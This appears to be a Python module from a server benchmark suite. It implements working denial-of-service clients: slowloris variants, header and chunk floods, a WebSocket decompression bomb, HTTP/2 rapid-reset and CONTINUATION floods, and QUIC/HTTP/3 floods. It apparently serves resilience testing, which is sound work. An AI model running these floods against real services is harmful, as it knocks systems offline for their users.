"""Clients that want harm: slow ones that hold what they have, and floods that make work. One coroutine each.

    python -m benchmarks.attack_clients slow-heads PORT SECONDS

Each takes the ports of the server and goes on until it is cancelled. A flood begins again when its connection is ended.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import itertools
import os
import socket
import struct
import sys
import time
import zlib
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Final

from benchmarks.quic_client import QuicClient, request_bytes
from benchmarks.servers import HOST

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

__all__ = ["ATTACKS", "Ports"]

SLOW: Final = 500
"""Connections of a slow attack."""
DRIP: Final = 0.5
RAMP: Final = 1.0
"""Seconds until all of them are there."""
FLOODS: Final = 4
"""Connections of a flood: more than one core can serve."""
PIECE: Final = 65536


@dataclass(frozen=True, slots=True, kw_only=True)
class Ports:
    """Where the server listens: in the clear, with TLS, and over UDP."""

    clear: int
    tls: int
    quic: int


async def connect(port: int, receive_bytes: int | None = None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    sock = socket.socket()
    if receive_bytes is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (HOST, port))
    return await asyncio.open_connection(sock=sock, limit=PIECE)


# -- slow -----------------------------------------------------------------------------------------------------------


async def hold(port: int, first: bytes, drip: bytes, *, count: int = SLOW, receive_bytes: int | None = None) -> None:
    """Keep so many connections: each says something, and then a little now and then. Nothing is read."""

    async def one(number: int) -> None:
        await asyncio.sleep(RAMP * number / count)  # a crowd that comes at once is another thing than slow clients
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await connect(port, receive_bytes)
                try:
                    reader._transport.pause_reading()  # type: ignore[attr-defined]
                    writer.write(first)
                    while not writer.is_closing():
                        await asyncio.sleep(DRIP)
                        if drip:
                            writer.write(drip)
                            await writer.drain()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(DRIP)

    await asyncio.gather(*[one(number) for number in range(count)])


async def slow_heads(ports: Ports) -> None:
    """A line of a head every half second, which never ends."""
    await hold(ports.clear, b"GET / HTTP/1.1\r\nHost: x\r\n", b"X-a: b\r\n")


async def slow_bodies(ports: Ports) -> None:
    """A byte of a body every half second."""
    await hold(ports.clear, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n", b"x")


async def slow_reads(ports: Ports) -> None:
    """A large answer is asked for and not read."""
    await hold(ports.clear, b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n", b"", count=200, receive_bytes=4096)


async def silent(ports: Ports) -> None:
    """Nothing is said."""
    await hold(ports.clear, b"", b"")


async def silent_tls(ports: Ports) -> None:
    """No handshake is begun, or half of one."""
    hello = bytes.fromhex("16030100c8010000c40303")
    await asyncio.gather(hold(ports.tls, b"", b"", count=250), hold(ports.tls, hello, b"", count=250))


# -- floods ---------------------------------------------------------------------------------------------------------


async def flood(port: int, wire: Callable[[], Iterator[bytes]], *, read: bool = True, count: int = FLOODS) -> None:
    """Write as fast as it is taken, on so many connections; a new one when one is ended."""

    async def drain(reader: asyncio.StreamReader) -> None:
        while await reader.read(PIECE):
            pass

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await connect(port)
                reading = asyncio.ensure_future(drain(reader)) if read else None
                try:
                    for piece in wire():
                        writer.write(piece)
                        await writer.drain()
                        if reading is not None and reading.done():
                            break
                        await asyncio.sleep(0)
                finally:
                    writer.transport.abort()
                    if reading is not None:
                        reading.cancel()
                        await asyncio.gather(reading, return_exceptions=True)
            await asyncio.sleep(0)

    await asyncio.gather(*[one() for _ in range(count)])


def repeated(piece: bytes, before: bytes = b"") -> Callable[[], Iterator[bytes]]:
    many = piece * max(1, PIECE // len(piece) // 4)
    return lambda: itertools.chain([before], itertools.repeat(many))


async def half_open(ports: Ports) -> None:
    """Connections that are reset at once, by the thousand."""
    linger = struct.pack("ii", 1, 0)
    loop = asyncio.get_running_loop()
    while True:
        for _ in range(50):
            with contextlib.suppress(OSError), socket.socket() as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                sock.setblocking(False)
                await loop.sock_connect(sock, (HOST, ports.clear))
        await asyncio.sleep(0)


async def header_flood(ports: Ports) -> None:
    """Heads of 60 KB that always differ."""

    def heads() -> Iterator[bytes]:
        for number in itertools.count():
            lines = b"".join(b"X-%d-%d: %s\r\n" % (number, line, b"v" * 600) for line in range(90))
            yield b"GET / HTTP/1.1\r\nHost: x\r\n" + lines + b"\r\n"

    await flood(ports.clear, heads)


async def pipeline(ports: Ports) -> None:
    """Requests without end, and no answer is read."""
    await flood(ports.clear, repeated(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"), read=False)


async def tiny_chunks(ports: Ports) -> None:
    """A body of chunks of one byte."""
    head = b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    await flood(ports.clear, repeated(b"1;x=y\r\nx\r\n", head))


async def rate_limit_keys(ports: Ports) -> None:
    """Each request is another client's, as far as the limit knows."""

    def requests() -> Iterator[bytes]:
        for start in itertools.count(0, 500):
            yield b"".join(b"GET / HTTP/1.1\r\nHost: x\r\nX-Key: %x\r\n\r\n" % n for n in range(start, start + 500))

    await flood(ports.clear, requests)


# -- WebSocket ------------------------------------------------------------------------------------------------------


def bomb(size: int) -> bytes:
    """A compressed message of a client, far larger once it is inflated (RFC 7692, 7.2.1)."""
    deflate = zlib.compressobj(wbits=-15)
    body = (deflate.compress(bytes(size)) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4]
    return bytes([0xC2, 0x80 | 127]) + len(body).to_bytes(8, "big") + bytes(4) + body


async def websocket_bombs(ports: Ports) -> None:
    """64 MB in 64 KB, again and again."""
    key = base64.b64encode(os.urandom(16))
    handshake = (
        b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Extensions: permessage-deflate\r\nSec-WebSocket-Key: %s\r\n\r\n" % key
    )
    message = bomb(64 << 20)
    await flood(ports.clear, lambda: itertools.chain([handshake], itertools.repeat(message)))


# -- HTTP/2 ---------------------------------------------------------------------------------------------------------

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
GET_BLOCK: Final = bytes.fromhex("82868401") + b"\x01x"
POST_BLOCK: Final = bytes.fromhex("83868401") + b"\x01x"
LARGE_BLOCK: Final = bytes.fromhex("8286") + b"\x04\x06/large" + b"\x01\x01x"
"""By the static table: method, scheme, path, authority x (RFC 7541, Appendix A)."""


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_resets() -> Iterator[bytes]:
    yield PREFACE
    ids = streams()
    while True:
        yield b"".join(
            frame(1, 5, number, GET_BLOCK) + frame(3, 0, number, b"\0\0\0\x08") for number in itertools.islice(ids, 50)
        )


def continuations() -> Iterator[bytes]:
    yield PREFACE + frame(1, 1, 1, GET_BLOCK)
    while True:
        yield frame(9, 0, 1, b"\0\x01x\x7f\xe1\x0e" + b"y" * 1888) * 8


def stalled_windows() -> Iterator[bytes]:
    """Every stream wants a large answer and grants nothing."""
    yield PREFACE + frame(4, 0, 0, struct.pack(">HL", 4, 0))
    yield b"".join(frame(1, 5, number, LARGE_BLOCK) for number in itertools.islice(streams(), 100))
    while True:
        yield b""


def http2_flood(wire: Callable[[], Iterator[bytes]], count: int = FLOODS) -> Callable[[Ports], Any]:
    return lambda ports: flood(ports.clear, wire, count=count)


async def stall_http2(ports: Ports) -> None:
    """A hundred streams on each of fifty connections want a large answer and grant no window."""
    wire = b"".join(itertools.islice(stalled_windows(), 2))
    await hold(ports.clear, wire, b"", count=50)


# -- HTTP/3 ---------------------------------------------------------------------------------------------------------


async def quic_rubbish(ports: Ports) -> None:
    """Datagrams that look like a first packet and are none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setblocking(False)
        sock.connect((HOST, ports.quic))
        while True:
            for _ in range(50):
                packet = (
                    b"\xc0\0\0\0\x01\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + b"\0\x44\x9e" + os.urandom(1174)
                )
                with contextlib.suppress(OSError):
                    sock.send(packet)
            await asyncio.sleep(0.001)


async def quic_flood(port: int, step: Callable[[QuicClient, Any], None], count: int = 2) -> None:
    """On each connection: do this, send, receive; a new one when one is ended."""

    async def one() -> None:
        while True:
            client = QuicClient(port)
            try:
                while True:
                    client.flush()
                    await asyncio.sleep(0.002)
                    client.receive()
                    if client.timer is not None and client.timer < time.monotonic():
                        client.expire()
                    if client.ready:
                        step(client, client._quic)
            except Exception:  # noqa: BLE001 - the end of its connection, as each library says it
                await asyncio.sleep(0.01)
            finally:
                client.sock.close()

    await asyncio.gather(*[one() for _ in range(count)])


def ping_quic(_: QuicClient, quic: Any) -> None:
    for number in range(50):
        quic.send_ping(number)


def reset_quic(client: QuicClient, quic: Any) -> None:
    """Ask and take it back (CVE-2023-44487 over HTTP/3)."""
    for _ in range(20):
        stream = quic.get_next_available_stream_id()
        client._streams[stream] = b""
        quic.send_stream_data(stream, request_bytes(authority="localhost", path="/")[:4], False)
        quic.reset_stream(stream, 0x10C)


def block_qpack(client: QuicClient, quic: Any) -> None:
    """A field section that waits for an entry of the dynamic table that never comes (RFC 9204, 2.1.2)."""
    stream = quic.get_next_available_stream_id()
    client._streams[stream] = b""
    quic.send_stream_data(stream, b"\x01\x03\x02\x00\x80", False)


async def stall_quic(ports: Ports) -> None:
    """Ask for much on many streams, and neither acknowledge nor grant anything from then on."""
    clients = [QuicClient(ports.quic) for _ in range(10)]
    try:
        while not all(client.ready for client in clients):
            for client in clients:
                client.flush()
                client.receive()
            await asyncio.sleep(0.005)
        for client in clients:
            for _ in range(20):
                client.ask(request_bytes(authority="localhost", path="/large"))
            client.flush()
        await asyncio.sleep(3600)
    finally:
        for client in clients:
            client.sock.close()


def http3_flood(step: Callable[[QuicClient, Any], None]) -> Callable[[Ports], Any]:
    return lambda ports: quic_flood(ports.quic, step)


ATTACKS: Final[dict[str, Callable[[Ports], Any]]] = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "slow reads": slow_reads,
    "silent connections": silent,
    "silent TLS": silent_tls,
    "connections reset at once": half_open,
    "heads of 60 KB": header_flood,
    "endless pipeline": pipeline,
    "chunks of a byte": tiny_chunks,
    "rate-limit keys": rate_limit_keys,
    "WebSocket bombs": websocket_bombs,
    "HTTP/2 rapid reset": http2_flood(rapid_resets),
    "HTTP/2 CONTINUATION": http2_flood(continuations),
    "HTTP/2 SETTINGS": http2_flood(repeated(frame(4, 0, 0), PREFACE)),
    "HTTP/2 PING": http2_flood(repeated(frame(6, 0, 0, bytes(8)), PREFACE)),
    "HTTP/2 empty DATA": http2_flood(repeated(frame(0, 0, 1), PREFACE + frame(1, 4, 1, POST_BLOCK))),
    "HTTP/2 closed windows": stall_http2,
    "QUIC rubbish": quic_rubbish,
    "QUIC PING": http3_flood(ping_quic),
    "HTTP/3 rapid reset": http3_flood(reset_quic),
    "HTTP/3 QPACK blocked": http3_flood(block_qpack),
    "HTTP/3 closed windows": stall_quic,
}


async def _run(name: str, ports: Ports, seconds: float) -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await ATTACKS[name](ports)


def main() -> None:
    name, clear, tls, quic, seconds = sys.argv[1:]
    asyncio.run(_run(name, Ports(clear=int(clear), tls=int(tls), quic=int(quic)), float(seconds)))


if __name__ == "__main__":
    main()
